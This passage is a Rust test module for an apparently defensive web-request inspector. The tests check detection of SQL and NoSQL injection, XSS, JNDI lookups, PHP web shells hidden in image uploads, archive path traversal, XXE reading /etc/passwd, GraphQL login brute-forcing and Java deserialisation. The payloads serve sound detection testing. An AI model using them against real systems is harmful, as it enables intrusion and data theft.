            charset("<?xml version='1.0' encoding = 'IBM037'?><a/>"),
            ["xml:!encoding"]
        );
        for fine in [
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><a/>",
            "<?xml version=\"1.0\" encoding=\"ISO-8859-2\"?><a/>",
            "<?xml version=\"1.0\" encoding=\"Shift_JIS\"?><a/>",
            "<a encoding=\"utf-7\"/>",
        ] {
            assert!(charset(fine).is_empty(), "{fine}");
        }
    }

    #[test]
    fn secret_fields_asked_for() {
        let asks = |target: &[u8]| {
            extract(&RequestView::new("GET", target), &Limits::default(), None)
                .anomalies
                .iter()
                .any(|a| a.rule == rules::PROTO_SECRET_FIELD)
        };
        assert!(asks(b"/parse/classes/_User?keys=email,sessionToken"));
        assert!(asks(b"/api/users?fields=id,password_hash"));
        assert!(!asks(b"/api/users?fields=id,passwordUpdatedAt&q=password"));
        // PostgREST's embedded resources, PocketBase's `expand`.
        assert!(asks(
            b"/rest/v1/orders?select=id,users(email,encrypted_password)"
        ));
        assert!(asks(
            b"/api/collections/m/records?expand=sender,sender.passwordHash"
        ));
        assert!(!asks(b"/rest/v1/orders?select=id,total,users(email)"));
    }

    #[test]
    fn log_ins_tried_across_a_batch() {
        let batch = |n: usize, field: &str| {
            let ops: Vec<String> = (0..n)
                .map(|i| {
                    format!(r#"{{"query": "mutation {{ {field}(email: \"a@example.com\", password: \"p{i}\") {{ token }} }}"}}"#)
                })
                .collect();
            format!("[{}]", ops.join(","))
        };
        let flagged = |body: String| {
            anomaly_labels(
                "application/json",
                body.as_bytes(),
                rules::PROTO_GRAPHQL_LIMITS,
            )
            .len()
        };
        assert_eq!(flagged(batch(5, "login")), 1);
        assert_eq!(flagged(batch(3, "login")), 0);
        assert_eq!(flagged(batch(5, "addToCart")), 0);
    }

    #[test]
    fn xmlrpc_multicalls_of_logins() {
        let call = |m: &str| {
            format!(
                "<value><struct><member><name>methodName</name><value><string>{m}</string></value></member></struct></value>"
            )
        };
        let doc = |calls: &[&str]| {
            let inner: String = calls.iter().map(|m| call(m)).collect();
            format!(
                "<?xml version=\"1.0\"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data>{inner}</data></array></value></param></params></methodCall>"
            )
        };
        for (calls, want) in [
            (&["wp.getUsersBlogs", "wp.getUsersBlogs"][..], true),
            (&["wp.getPost", "wp.getPost", "wp.getUsersBlogs"][..], false),
            (&["wp.getOptions"; 11][..], true),
            (&["wp.getOptions"; 10][..], false),
        ] {
            let body = doc(calls);
            let req = RequestView::new("POST", b"/xmlrpc.php")
                .header("Content-Type", "text/xml")
                .body(body.as_bytes());
            let x = extract(&req, &Limits::default(), None);
            let found = x
                .anomalies
                .iter()
                .any(|a| a.rule == rules::PROTO_XMLRPC_LOGINS);
            assert_eq!(found, want, "{calls:?}");
        }
    }

    #[test]
    fn graphql_requests_are_read_for_abuse() {
        let json = |body: &str, rule| anomaly_labels("application/json", body.as_bytes(), rule);
        assert_eq!(
            json(
                r#"{"query":"query Q { __schema { types { name } } }"}"#,
                rules::PROTO_GRAPHQL_INTROSPECTION
            ),
            ["json:/query"]
        );
        let op =
            r#"{"query":"mutation($p:String!){login(password:$p){token}}","variables":{"p":"x"}}"#;
        let batch = |n: usize| format!("[{}]", vec![op; n].join(","));
        assert_eq!(
            json(&batch(11), rules::PROTO_GRAPHQL_LIMITS),
            ["json:/3/query", "json:/"]
        );
        assert_eq!(
            json(&batch(4), rules::PROTO_GRAPHQL_LIMITS),
            ["json:/3/query"]
        );
        assert!(json(&batch(3), rules::PROTO_GRAPHQL_LIMITS).is_empty());
        let queries: Vec<String> = (0..9)
            .map(|i| format!(r#"{{"query":"query Q{i} {{ f{i} {{ id }} }}"}}"#))
            .collect();
        assert!(
            json(
                &format!("[{}]", queries.join(",")),
                rules::PROTO_GRAPHQL_LIMITS
            )
            .is_empty()
        );
        // Not GraphQL: a search's `query`, and an array of other things.
        assert!(
            json(
                r#"{"query":"select __schema from t"}"#,
                rules::PROTO_GRAPHQL_INTROSPECTION
            )
            .is_empty()
        );
        assert!(
            json(
                &format!("[{}]", vec!["1"; 20].join(",")),
                rules::PROTO_GRAPHQL_LIMITS
            )
            .is_empty()
        );
        // In a URL or a form body, a mutation is refused (a link or a form on another site
        // can send it); in a JSON body, which needs a preflight, it is not.
        let url = |target: &'static [u8]| {
            let x = extract(&RequestView::new("GET", target), &Limits::default(), None);
            x.anomalies.iter().map(|a| a.rule).collect::<Vec<_>>()
        };
        assert!(
            url(b"/graphql?query=mutation%7BupdateEmail(email%3A%22a%40b.c%22)%7Bok%7D%7D")
                .contains(&rules::PROTO_GRAPHQL_URL_MUTATION)
        );
        assert!(url(b"/graphql?query=%7Bme%7Bid%7D%7D").is_empty());
        assert_eq!(
            anomaly_labels(
                "application/x-www-form-urlencoded",
                b"query=mutation%7Bx%7Bok%7D%7D",
                rules::PROTO_GRAPHQL_URL_MUTATION
            ),
            ["form:query"]
        );
        assert!(
            anomaly_labels(
                "application/json",
                br#"{"query":"mutation{x{ok}}"}"#,
                rules::PROTO_GRAPHQL_URL_MUTATION
            )
            .is_empty()
        );
    }

    #[test]
    fn batches_of_requests_and_mail_messages() {
        // OData's `$batch`: a GET, then a changeset with a PATCH; the framing is no header
        // injection, and each request is read as one.
        let batch = "--batch_1\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\nGET Products?$filter=Name%20eq%20'x''%20or%201%3D1--'&$top=5 HTTP/1.1\r\nAccept: application/json\r\nUser-Agent: ${jndi:ldap://e.example/a}\r\n\r\n\r\n--batch_1\r\nContent-Type: multipart/mixed; boundary=cs_1\r\n\r\n--cs_1\r\nContent-Type: application/http\r\nContent-ID: 1\r\n\r\nPATCH Products(77) HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"Description\":\"<script>alert(1)</script>\"}\r\n--cs_1--\r\n--batch_1--\r\n";
        let req = RequestView::new("POST", b"/odata/$batch")
            .header("Content-Type", "multipart/mixed; boundary=batch_1")
            .body(batch.as_bytes());
        let x = extract(&req, &Limits::default(), None);
        let vals = labels(&x, Kind::Value);
        assert!(
            vals.contains(&("query:$filter".into(), "Name eq 'x'' or 1=1--'".into())),
            "{vals:?}"
        );
        assert!(vals.contains(&(
            "json:/Description".into(),
            "<script>alert(1)</script>".into()
        )));
        assert!(labels(&x, Kind::Path).contains(&("path".into(), "Products(77)".into())));
        // Its header fields too, as a request's.
        assert!(labels(&x, Kind::TextHeader).contains(&(
            "header:user-agent".into(),
            "${jndi:ldap://e.example/a}".into()
        )));
        assert!(
            !vals.iter().any(|(_, v)| v.contains("HTTP/1.1")),
            "{vals:?}"
        );
        // A request without header fields has its body read all the same.
        let bare = "--b\r\nContent-Type: application/http\r\n\r\nPOST /orders HTTP/1.1\r\n\r\nid=1' or '1'='1\r\n--b--\r\n";
        let req = RequestView::new("POST", b"/batch")
            .header("Content-Type", "multipart/mixed; boundary=b")
            .body(bare.as_bytes());
        let x = extract(&req, &Limits::default(), None);
        assert!(
            labels(&x, Kind::Body).contains(&("body".into(), "id=1' or '1'='1".into())),
            "{:?}",
            labels(&x, Kind::Body)
        );
        // A part that is no request is read as before.
        let odd = "--b\r\nContent-Type: application/http\r\n\r\nnot a request line\r\n--b--\r\n";
        let req = RequestView::new("POST", b"/")
            .header("Content-Type", "multipart/mixed; boundary=b")
            .body(odd.as_bytes());
        let x = extract(&req, &Limits::default(), None);
        assert!(
            labels(&x, Kind::Value).contains(&("multipart:".into(), "not a request line".into()))
        );

        // A mail message's values (the text of its inputs) and its anomalies.
        let read_mail = |mail: &str| {
            let req = RequestView::new("POST", b"/inbound")
                .header("Content-Type", "message/rfc822")
                .body(mail.as_bytes());
            let x = extract(&req, &Limits::default(), None);
            let vals: Vec<String> = labels(&x, Kind::Value)
                .into_iter()
                .map(|(_, v)| v)
                .collect();
            (vals, x.anomalies)
        };
        // A mail message: its header block is the mail's; its parts are read, nested once.
        let mail = "From: A <a@example.net>\r\nSubject: Hi\r\nContent-Type: multipart/mixed;\r\n\tboundary=\"m1\"\r\n\r\n--m1\r\nContent-Type: multipart/alternative; boundary=\"m2\"\r\n\r\n--m2\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nSee you\r\n--m2\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=alert(1)>\r\n--m2--\r\n--m1\r\nContent-Type: message/delivery-status\r\n\r\nStatus: 5.1.1\r\nAction: failed\r\n--m1--\r\n";
        let (vals, anomalies) = read_mail(mail);
        assert!(
            vals.contains(&"<img src=x onerror=alert(1)>".to_owned()),
            "{vals:?}"
        );
        assert!(vals.contains(&"See you".to_owned()));
        assert!(vals.contains(&"Hi".to_owned()), "{vals:?}");
        assert!(
            !vals
                .iter()
                .any(|v| v.contains("Status:") || v.contains("From:"))
        );
        assert!(anomalies.is_empty(), "{anomalies:?}");
        // A preamble is no anomaly in mail; quoted-printable and base64 parts are decoded.
        let mail = "Content-Type: multipart/alternative; boundary=m\r\n\r\nThis is a multi-part message in MIME format.\r\n--m\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n<img src=3Dx one=\r\nrror=3Dalert(1)>\r\n--m\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\nPHNjcmlwdD5h\r\nbGVydCgxKTwv\r\nc2NyaXB0Pg==\r\n--m--\r\n";
        let (vals, anomalies) = read_mail(mail);
        assert!(
            vals.contains(&"<img src=x onerror=alert(1)>".to_owned()),
            "{vals:?}"
        );
        assert!(
            vals.contains(&"<script>alert(1)</script>".to_owned()),
            "{vals:?}"
        );
        assert!(anomalies.is_empty(), "{anomalies:?}");
        // A message that is not multipart is its text.
        let req = RequestView::new("POST", b"/inbound")
            .header("Content-Type", "message/rfc822")
            .body(b"From: a@example.net\r\n\r\n<script>alert(1)</script>");
        let x = extract(&req, &Limits::default(), None);
        assert_eq!(
            labels(&x, Kind::Body),
            [("body".to_owned(), "<script>alert(1)</script>".to_owned())]
        );
    }

    #[test]
    fn event_handlers_on_html_elements_of_xml_documents() {
        assert!(HTML_ELEMENTS.windows(2).all(|w| w[0] < w[1]));
        let handlers = |xml: &str| {
            anomaly_labels(
                "application/fhir+xml",
                xml.as_bytes(),
                rules::XSS_EVENT_HANDLER,
            )
        };
        assert_eq!(
            handlers(
                r#"<Observation><text><div xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="fetch('//e.example')"/></div></text></Observation>"#
            ),
            ["xml:/Observation/text/div/img@onerror"]
        );
        assert_eq!(
            handlers(r#"<doc><h:body xmlns:h="http://www.w3.org/1999/xhtml" onLoad="x()"/></doc>"#),
            ["xml:/doc/h:body@onLoad"]
        );
        assert_eq!(
            handlers(
                r#"<text><h1 onmouseover="x()">T</h1><svg><g><rect onclick="y()"/></g></svg></text>"#
            ),
            ["xml:/text/h1@onmouseover", "xml:/text/svg/g/rect@onclick"]
        );
        // Data elements with such attribute names, and empty handlers, are data.
        for xml in [
            r#"<rule onchange="recalc" online="true"><img on=""/></rule>"#,
            r#"<trigger onerror="retry"/>"#,
            r#"<div onclick=""/>"#,
        ] {
            assert!(handlers(xml).is_empty(), "{xml}");
        }
    }

    #[test]
    fn gzipped_serialised_objects() {
        use base64::Engine as _;
        let gzip = |plain: &[u8], name: bool| {
            let mut gz = vec![0x1f, 0x8b, 8, if name { 8 } else { 0 }, 0, 0, 0, 0, 0, 3];
            if name {
                gz.extend_from_slice(b"state.bin\0");
            }
            gz.extend(miniz_oxide::deflate::compress_to_vec(plain, 6));
            gz.extend_from_slice(&[0; 8]);
            base64::engine::general_purpose::STANDARD.encode(gz)
        };
        let flagged = |cookie: String| {
            let req = RequestView::new("GET", b"/claims").header("Cookie", &cookie);
            extract(&req, &Limits::default(), None)
                .anomalies
                .iter()
                .any(|a| a.rule == rules::JAVA_DESERIALISATION)
        };
        let java = b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1";
        assert!(flagged(format!("wbstate={}", gzip(java, false))));
        assert!(flagged(format!("s={}; theme=dark", gzip(java, true))));
        // Gzipped JSON is a client's compressed state, not an object to deserialise.
        assert!(!flagged(format!(
            "wbstate={}",
            gzip(br#"{"tab":"claims","page":2}"#, false)
        )));
        assert!(!flagged("wbstate=H4sIAAAA%%%".to_owned()));
    }

    #[test]
    fn passwords_of_another_type_and_match_all_alternatives_are_anomalies() {
        let juggled =
            |ct: &str, body: &str| anomaly_labels(ct, body.as_bytes(), rules::PHP_TYPE_JUGGLING);
        let json = "application/json";
        assert_eq!(
            juggled(json, r#"{"username":"admin","password":true}"#),
            ["json:/password"]
        );
        assert_eq!(
            juggled(json, r#"{"user":{"Current_Password":0}}"#),
            ["json:/user/Current_Password"]
        );
        assert_eq!(juggled(json, r#"{"otp":["1"]}"#), ["json:/otp"]);
        // Text, other numbers, false, and flags about a password are not juggling.
        for body in [
            r#"{"password":"hunter2","pin":0}"#,
            r#"{"otp":123456,"password":false}"#,
            r#"{"remember_password":true,"show_password":true,"password_rules":["a"]}"#,
            r#"{"passwords":[{"id":1}],"count":0}"#,
        ] {
            assert!(juggled(json, body).is_empty(), "{body}");
        }
        let form = "application/x-www-form-urlencoded";
        assert_eq!(
            anomaly_labels(
                form,
                b"javax.faces.ViewState=H4sIAAAAAAAAA5VSzWvU&x=1",
                rules::JAVA_DESERIALISATION
            ),
            ["form:javax.faces.ViewState"]
        );
        assert!(
            anomaly_labels(
                form,
                b"javax.faces.ViewState=-4021:9175",
                rules::JAVA_DESERIALISATION
            )
            .is_empty()
        );
        assert_eq!(juggled(form, "user=a&password[]=x"), ["form:password[]"]);
        assert_eq!(juggled(form, "user=a&new_pwd[0]=x"), ["form:new_pwd[0]"]);
        assert!(juggled(form, "password=x&password[hash]=y&tags[]=a").is_empty());

        let match_all = |body: &str| anomaly_labels(json, body.as_bytes(), rules::SQLI_NOSQL);
        assert_eq!(
            match_all(r#"{"filter":{"$or":[{},{"owner":"me"}]}}"#),
            ["json:/filter/$or/0"]
        );
        assert!(match_all(r#"{"filter":{"$or":[{"a":1},{"owner":"me"}]},"opts":[{}]}"#).is_empty());
    }
    #[test]
    fn postscript_and_djvu_uploads_are_read() {
        let upload = |ct: &str, content: &[u8]| {
            let mut body = b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x\"\r\nContent-Type: ".to_vec();
            body.extend_from_slice(ct.as_bytes());
            body.extend_from_slice(b"\r\n\r\n");
            body.extend_from_slice(content);
            body.extend_from_slice(b"\r\n--b--\r\n");
            let req = RequestView::new("POST", b"/")
                .header("Content-Type", "multipart/form-data; boundary=b")
                .body(&body);
            labels(&extract(&req, &Limits::default(), None), Kind::FileContent).len()
        };
        assert_eq!(
            upload("application/postscript", b"%!PS-Adobe-3.0\nshowpage"),
            1
        );
        assert_eq!(upload("image/jpeg", b"AT&TFORM\0\0\0\x08DJVU"), 1);
        // A real JPEG stays unread.
        assert_eq!(upload("image/jpeg", b"\xff\xd8\xff\xe0\0\x10JFIF"), 0);
    }

    #[test]
    fn json_lines_and_json_under_other_names() {
        let read = |ct: &str, body: &[u8]| {
            let req = RequestView::new("POST", b"/")
                .header("Content-Type", ct)
                .body(body);
            extract(&req, &Limits::default(), None)
        };
        // Elasticsearch's bulk API: an action line, then a document line.
        let bulk = b"{\"index\":{\"_id\":\"1\"}}\n{\"title\":\"Drop the World\"}\n";
        let x = read("application/x-ndjson", bulk);
        assert!(labels(&x, Kind::Value).contains(&("json:/title".into(), "Drop the World".into())));
        assert!(labels(&x, Kind::Body).is_empty());
        assert!(x.anomalies.is_empty(), "{:?}", x.anomalies);
        // A beacon's JSON sent as text.
        let x = read(
            "text/plain;charset=UTF-8",
            br#"{"event":"click","x":"a \"b\""}"#,
        );
        assert!(labels(&x, Kind::Value).contains(&("json:/x".into(), "a \"b\"".into())));
        assert!(labels(&x, Kind::Body).is_empty());
        // Text that only starts like JSON, and JSON Lines with a broken line, stay one body.
        for (ct, body) in [
            ("text/plain", &b"{not json} at all"[..]),
            ("application/x-ndjson", b"{\"a\":1}\n{\"b\":"),
        ] {
            let x = read(ct, body);
            assert_eq!(labels(&x, Kind::Body).len(), 1, "{ct}");
            assert!(labels(&x, Kind::Value).is_empty(), "{ct}");
        }
    }

    #[test]
    fn bounds_json_depth_and_inputs() {
        let deep = format!("{}\"x\"{}", "[".repeat(100), "]".repeat(100));
        let req = RequestView::new("POST", b"/")
            .header("Content-Type", "application/json")
            .body(deep.as_bytes());
        let x = extract(&req, &Limits::default(), None);
        assert!(x.anomalies.iter().any(|a| a.rule == rules::PROTO_LIMIT));

        let many = "a=1&".repeat(5000);
        let req = RequestView::new("POST", b"/")
            .header("Content-Type", "application/x-www-form-urlencoded")
            .body(many.as_bytes());
        let x = extract(&req, &Limits::default(), None);
        assert!(x.inputs.len() <= Limits::default().max_inputs);
        assert!(x.anomalies.iter().any(|a| a.rule == rules::PROTO_LIMIT));
        assert!(
            x.anomalies
                .iter()
                .any(|a| a.rule == rules::PROTO_TOO_MANY_ARGS)
        );
    }

    #[test]
    fn reads_multipart_fields_and_filenames() {
        let body = b"--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nhello world\r\n--XyZ\r\nContent-Disposition: form-data; name=\"up\"; filename=\"a.txt\"\r\nContent-Type: text/plain\r\n\r\nfile body\r\n--XyZ--\r\n";
        let req = RequestView::new("POST", b"/")
            .header("Content-Type", "multipart/form-data; boundary=XyZ")
            .body(body);
        let x = extract(&req, &Limits::default(), None);
        let vals = labels(&x, Kind::Value);
        assert!(
            vals.contains(&("multipart:title".into(), "hello world".into())),
            "{vals:?}"
        );
        assert!(labels(&x, Kind::Filename).contains(&("file:up".into(), "a.txt".into())));
        assert!(
            labels(&x, Kind::FileContent).contains(&("file-content:up".into(), "file body".into()))
        );
        assert!(x.anomalies.is_empty(), "{:?}", x.anomalies);

        // TeX is read, and so is a file of no declared kind named as configuration or a
        // script; another such file (`model.bin`) is not.
        for (name, ct, read) in [
            ("hw3.tex", "application/x-tex", true),
            ("printer.cfg", "application/octet-stream", true),
            ("deploy.SH.", "application/octet-stream", true),
            ("model.bin", "application/octet-stream", false),
            ("cfg", "application/octet-stream", false),
        ] {
            let body = format!(
                "--XyZ\r\nContent-Disposition: form-data; name=\"up\"; filename=\"{name}\"\r\nContent-Type: {ct}\r\n\r\nfile body\r\n--XyZ--\r\n"
            );
            let req = RequestView::new("POST", b"/")
                .header("Content-Type", "multipart/form-data; boundary=XyZ")
                .body(body.as_bytes());
            let x = extract(&req, &Limits::default(), None);
            assert_eq!(!labels(&x, Kind::FileContent).is_empty(), read, "{name}");
        }

        // A field holding JSON is read as the document the application parses.
        let body = b"--b\r\nContent-Disposition: form-data; name=\"filter\"\r\n\r\n{\"name\":{\"$where\":\"1\"}}\r\n--b\r\nContent-Disposition: form-data; name=\"operations\"\r\n\r\n{\"query\":\"{__schema{types{name}}}\"}\r\n--b--\r\n";
        let req = RequestView::new("POST", b"/graphql")
            .header("Content-Type", "multipart/form-data; boundary=b")
            .body(body);
        let x = extract(&req, &Limits::default(), None);
        let names = labels(&x, Kind::Name);
        assert!(
            names
                .iter()
                .any(|(l, n)| l.starts_with("multipart:filter") && n == "$where"),
            "{names:?}"
        );
        assert!(
            x.anomalies
                .iter()
                .any(|a| a.rule == rules::PROTO_GRAPHQL_INTROSPECTION),
            "{:?}",
            x.anomalies
        );

        // Binary files are not read as text, but PHP hidden in one is found.
        for (content, php) in [
            (&b"GIF89a;<?php passthru($_GET['c']); ?>"[..], true),
            (b"GIF89a;<?PHP\nsystem('id');", true),
            (b"\x89PNG\r\n<?xml <?ph", false),
        ] {
            let mut body = b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n".to_vec();
            body.extend_from_slice(content);
            body.extend_from_slice(b"\r\n--b--\r\n");
            let req = RequestView::new("POST", b"/")
                .header("Content-Type", "multipart/form-data; boundary=b")
                .body(&body);
            let x = extract(&req, &Limits::default(), None);
            assert!(labels(&x, Kind::FileContent).is_empty());
            assert_eq!(
                x.anomalies.iter().any(|a| a.rule == rules::PHP_OPEN_TAG),
                php,
                "{:?}",
                x.anomalies
            );
        }
    }

    #[test]
    fn archives_with_members_outside_their_folder() {
        let tar_member = |name: &str, link: &str, data: &[u8]| {
            let mut h = vec![0u8; 512];
            h[..name.len()].copy_from_slice(name.as_bytes());
            h[124..135].copy_from_slice(format!("{:011o}", data.len()).as_bytes());
            h[157..157 + link.len()].copy_from_slice(link.as_bytes());
            h[257..262].copy_from_slice(b"ustar");
            h.extend_from_slice(data);
            h.resize(512 + data.len().div_ceil(512) * 512, 0);
            h
        };
        let mut fine = tar_member("site/index.html", "", &[b'x'; 700]);
        fine.extend(tar_member("site/css/a..b.css", "", b"p{}"));
        assert!(!archive_escapes(&fine, None));
        let mut deep = fine.clone();
        deep.extend(tar_member("../../webapps/ROOT/sh.jsp", "", b"<%%>"));
        assert!(archive_escapes(&deep, None));
        assert!(archive_escapes(&tar_member("x", "/etc/cron.d", b""), None));
        // A declared tar is read without its magic; text that is no archive is not.
        let plain = b"../../opt/app/sh.jsp 0000644 <% exec %>";
        assert!(archive_escapes(plain, Some("application/x-tar")));
        assert!(!archive_escapes(plain, Some("text/plain")));
        let zip_member = |name: &str| {
            let mut z = b"PK\x03\x04".to_vec();
            z.resize(26, 0);
            z.extend_from_slice(&(name.len() as u16).to_le_bytes());
            z.extend_from_slice(&[0, 0]);
            z.extend_from_slice(name.as_bytes());
            z.extend_from_slice(b"data");
            z
        };
        assert!(!archive_escapes(&zip_member("docs/readme.txt"), None));
        for name in [
            "../evil.sh",
            "a/../../b",
            "..\\..\\w.aspx",
            "/etc/passwd",
            "C:/x",
        ] {
            let mut z = zip_member("ok.txt");
            z.extend(zip_member(name));
            assert!(archive_escapes(&z, None), "{name}");
        }
        // The ustar prefix, a GNU long name, a PAX path, a base-256 size, a zip after a stub.
        let mut prefixed = tar_member("sh.jsp", "", b"");
        prefixed[345..363].copy_from_slice(b"../../webapps/ROOT");
        assert!(archive_escapes(&prefixed, None));
        let mut long = tar_member("././@LongLink", "", b"../../x.jsp");
        long[156] = b'L';
        assert!(archive_escapes(&long, None));
        let mut pax = tar_member("PaxHeaders/x", "", b"30 path=../../etc/cron.d/x\n");
        pax[156] = b'x';
        assert!(archive_escapes(&pax, None));
        let mut big = tar_member("a", "", &[b'x'; 600]);
        big[124..136].copy_from_slice(&[0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x02, 0x58]);
        big.extend(tar_member("../y", "", b""));
        assert!(archive_escapes(&big, None));
        let mut stub = b"MZ stub".to_vec();
        stub.extend(zip_member("../../w.aspx"));
        assert!(archive_escapes(&stub, None));
        // Truncated headers and sizes that overflow end the walk.
        assert!(!archive_escapes(b"PK\x03\x04\x00", None));
        let mut huge = tar_member("a", "", b"");
        huge[124..136].copy_from_slice(b"77777777777\0");
        huge.extend(tar_member("../x", "", b""));
        assert!(!archive_escapes(&huge, None));
    }

    #[test]
    fn svg_uploads_that_only_draw_are_read_as_documents() {
        let drawing = r##"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><defs><linearGradient id="g"/></defs><path d="M10 60 C 40 10" fill="url(#g)" stroke="#000"/><use xlink:href="#g"/><text>Common</text></svg>"##;
        assert!(inert_svg(drawing.as_bytes()));
        let declared = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg><rect/></svg>";
        assert!(inert_svg(declared.as_bytes()));
        assert!(inert_svg(
            "<svg><text>MTA -&gt; queue &amp; &lt;b&gt;</text></svg>".as_bytes()
        ));
        for reference in ["&#106;", "&#x6a;", "&ent;", "&", "&lt"] {
            let svg = format!("<svg><text>{reference}</text></svg>");
            assert!(!inert_svg(svg.as_bytes()), "{svg}");
        }
        // Drawing commands with a multibyte character across byte 512 are text, not an image.
        let head = "push graphic-context\n";
        let mvg = format!("{head}{}é\n", "x".repeat(511 - head.len()));
        assert_eq!(mvg.as_bytes()[511], 0xc3);
        assert!(!image_magic(mvg.as_bytes()));
        assert!(image_magic(b"\xff\xd8\xff\xe0 JFIF"));
        // A declaration with non-ASCII text, or one never closed, is read without a panic and
        // is no drawing.
        assert!(!inert_svg("<?xml é>".as_bytes()));
        assert!(!inert_svg("<?xml encoding=\"é".as_bytes()));
        assert!(inert_svg(
            "<?xml version='1.0' encoding = 'utf-8' ?><svg/>".as_bytes()
        ));
        // The encoding is read as the XML reader reads it, spaces around `=` included.
        assert!(!inert_svg(
            "<?xml version=\"1.0\" encoding = \"UTF-7\"?><svg/>".as_bytes()
        ));
        // UTF-16 hides every marker from a byte search: not UTF-8, so not a drawing.
        let utf16: Vec<u8> = "<svg><script/></svg>"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        assert!(!inert_svg(&utf16));
        for active in [
            r#"<svg><script>alert(1)</script></svg>"#,
            r#"<svg onload="alert(1)"/>"#,
            r#"<svg><a/onclick = "x()"/></svg>"#,
            r#"<svg><image href="https://evil.example/x.png"/></svg>"#,
            r#"<svg><use xlink:href = 'data:image/svg+xml;base64,PHN2Zz4='/></svg>"#,
            r#"<svg><rect fill="url(https://evil.example/p)"/></svg>"#,
            r#"<svg><foreignObject><iframe/></foreignObject></svg>"#,
            r#"<svg><set attributeName="href" to="javascript:alert(1)"/></svg>"#,
            r#"<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>"#,
            r#"<svg><style>@import 'https://evil.example/a.css';</style></svg>"#,
            r#"<svg><s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script></svg>"#,
            r#"<svg><h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="//e.example"/></svg>"#,
            "<?xml version=\"1.0\" encoding=\"ISO-2022-JP\"?><svg><scr\x1b(Bipt/></svg>",
            "<svg\nonload\n=alert(1)>",
            "<svg x:onload='alert(1)'/>",
            "<svg><?=system($_GET[0])?></svg>",
            "<svg><text><% exec %></text></svg>",
            "<svg><!-- x --></svg>",
        ] {
            assert!(!inert_svg(active.as_bytes()), "{active}");
        }
        // A drawing is read as a document (its text and attribute values are inputs); any
        // other SVG as text, whole.
        for (svg, as_text) in [(drawing, false), (r#"<svg onload="alert(1)"/>"#, true)] {
            let mut body = b"--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"s.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n".to_vec();
            body.extend_from_slice(svg.as_bytes());
            body.extend_from_slice(b"\r\n--b--\r\n");
            let req = RequestView::new("POST", b"/")
                .header("Content-Type", "multipart/form-data; boundary=b")
                .body(&body);
            let x = extract(&req, &Limits::default(), None);
            assert_eq!(!labels(&x, Kind::FileContent).is_empty(), as_text, "{svg}");
            let values = labels(&x, Kind::Value);
            assert_eq!(
                values.contains(&("xml:/svg/text".into(), "Common".into())),
                !as_text,
                "{values:?}"
            );
        }
    }

    #[test]
    fn reports_broken_multipart() {
        let req = RequestView::new("POST", b"/")
            .header("Content-Type", "multipart/form-data")
            .body(b"junk");
        let x = extract(&req, &Limits::default(), None);
        assert!(x.anomalies.iter().any(|a| a.rule == rules::PROTO_MULTIPART));
        let req = RequestView::new("POST", b"/")
            .header("Content-Type", "multipart/form-data; boundary=b")
            .body(b"--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nv\r\n--b");
        let x = extract(&req, &Limits::default(), None);
        assert!(
            x.anomalies
                .iter()
                .any(|a| a.rule == rules::PROTO_MULTIPART_LAX)
        );
        // The last part of a body that never closes is still read.
        let req = RequestView::new("POST", b"/")
            .header("Content-Type", "multipart/form-data; boundary=b")
            .body(b"--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nv\r\n--b\r\nContent-Disposition: form-data; name=\"cmd\"\r\n\r\n;id");
        let x = extract(&req, &Limits::default(), None);
        let vals = labels(&x, Kind::Value);
        assert!(
            vals.contains(&("multipart:cmd".into(), ";id".into())),
            "{vals:?}"
        );
        assert!(
            x.anomalies
                .iter()
                .any(|a| a.rule == rules::PROTO_MULTIPART_LAX)
        );
    }

    #[test]
    fn rewrite_url_headers_are_inspected_as_paths() {
        let req = RequestView::new("GET", b"/")
            .header("X-Original-URL", "/admin/../etc/passwd")
            .header("x-rewrite-url", "/a")
            .header("X-Other", "/b");
        let x = extract(&req, &Limits::default(), None);
        let paths = labels(&x, Kind::HeaderPath);
        assert!(paths.contains(&(
            "header:x-original-url".into(),
            "/admin/../etc/passwd".into()
        )));
        assert!(paths.contains(&("header:x-rewrite-url".into(), "/a".into())));
        assert!(labels(&x, Kind::HeaderValue).contains(&("header:x-other".into(), "/b".into())));
    }

    #[test]
    fn documents_inside_values_are_read_as_the_application_reads_them() {
        use base64::Engine as _;
        let b64 = |t: &str| base64::engine::general_purpose::STANDARD.encode(t);
        let filter = b64(r#"{"where":"status='active') UNION SELECT 1--"}"#);
        let saml = b64(
            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://203.0.113.9/x.dtd\"> %x;]>\n<samlp:Response xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\" Destination=\"https://localhost/acs\"><saml:Issuer>https://localhost/idp</saml:Issuer><saml:NameID>admin' OR '1'='1</saml:NameID></samlp:Response>",
        );
        let script = b64("#!/bin/sh\nnpm test\n");
        let query = format!(
            "/?filter={filter}&SAMLResponse={}&file={script}",
            saml.replace('+', "%2B")
        );
        let body = format!(
            r#"{{"criteria":"{{\"token\":{{\"$ne\":null}}}}","key":"{}"}}"#,
            b64("../../proc/self/environ")
        );
        let req = RequestView::new("POST", query.as_bytes())
            .header("Content-Type", "application/json")
